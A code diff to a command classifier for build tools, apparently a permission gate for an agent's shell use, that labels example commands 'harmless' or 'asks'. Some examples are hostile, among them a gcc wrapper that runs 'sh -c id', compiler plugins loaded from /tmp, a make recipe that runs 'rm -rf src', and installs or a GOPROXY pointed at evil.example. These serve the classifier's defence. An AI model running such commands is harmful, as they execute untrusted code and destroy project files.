@@ -8,7 +8,7 @@ from wicketgate.gate.shell.format import Program
 P = Program
 # fmt: off
 CARGO = (
-    "* -p: --package: --bin: --example: --test: --bench: --features: -F: --target: --target-dir:write --manifest-path:read --profile: -j: --jobs: --color: --message-format: -Z: -C:cd"
+    "* -p: --package: --bin: --example: --test: --bench: --features: -F: --target: --target-dir:write --manifest-path:run --profile: -j: --jobs: --color: --message-format: -Z: -C:cd"
     " --exclude: --edition: --timings:? --config:persist --out-dir:write --artifact-dir:write --lockfile-path:write --depth: --prefix: --format: -e: --invert:"
 )
 GO = (
@@ -92,7 +92,7 @@ PROGRAMS = (
 EXAMPLES = (
     ("make", "harmless"), ("make test", "harmless"), ("make -j8 all", "harmless"), ("make -C src test", "harmless"), ("make publish", "asks"), ("make -f /tmp/evil.mk", "asks"),
     ("cargo build --release", "harmless"), ("cargo test --workspace -- --nocapture", "harmless"), ("cargo publish", "asks"), ("cargo install ripgrep", "asks"), ("cargo add serde", "asks"), ("cargo clippy --all-targets -- -D warnings", "harmless"),
-    ("cargo clean", "harmless"), ("go build ./...", "harmless"), ("go test -run TestX -v ./pkg/...", "harmless"), ("go mod tidy", "harmless"), ("go install evil.example/x@latest", "asks"), ("go get evil.example/x", "asks"),
+    ("cargo clean", "harmless"), ("cargo run --manifest-path /tmp/evil/Cargo.toml", "asks"), ("CFLAGS=-fplugin=/tmp/x.so make", "asks"), ("CFLAGS=-O2 make", "harmless"), ("gcc -wrapper sh,-c,id x.c", "asks"), ("gcc -fplugin=/tmp/x.so a.c", "asks"), ("gcc -O2 -Wall -o app main.c -lpthread", "harmless"), ("gcc @/tmp/args", "asks"), ("strip /usr/bin/x", "asks"), ("strip build/app", "harmless"), ("ar rcs libx.a a.o", "harmless"), ("go build ./...", "harmless"), ("go test -run TestX -v ./pkg/...", "harmless"), ("go mod tidy", "harmless"), ("go install evil.example/x@latest", "asks"), ("go get evil.example/x", "asks"),
     ("go run .", "harmless"), ("go env -w GOPROXY=evil.example", "asks"), ("cmake -S . -B build", "harmless"), ("cmake --build build -j4", "harmless"), ("cmake -P script.cmake", "run script.cmake; build the project"),
     ("mvn -q test", "harmless"), ("mvn exec:exec -Dexec.executable=rm", "asks"), ("mvn flyway:clean", "asks"), ("mvn versions:display-dependency-updates", "harmless"), ("./gradlew assembleRelease", "harmless"), ("./gradlew publishToMavenCentral", "asks"), ("./gradlew flywayClean", "asks"), ("./gradlew test --tests 'a.B'", "harmless"), ("./gradlew dropAll", "asks"),
     ("sbt test", "harmless"), ("sbt publishSigned", "asks"), ("clj -Sdeps '{}' -M -m x", "asks"), ("clojure -M:test", "harmless"), ("make -n deploy", "harmless"), ("make -f - <<< 'all:; rm -rf src'", "asks"), ("java -version", "harmless"), ("java -jar target/app.jar", "run target/app.jar"), ("java -jar /tmp/evil.jar", "asks"), ("java -javaagent:/tmp/a.jar -jar target/app.jar", "asks"),
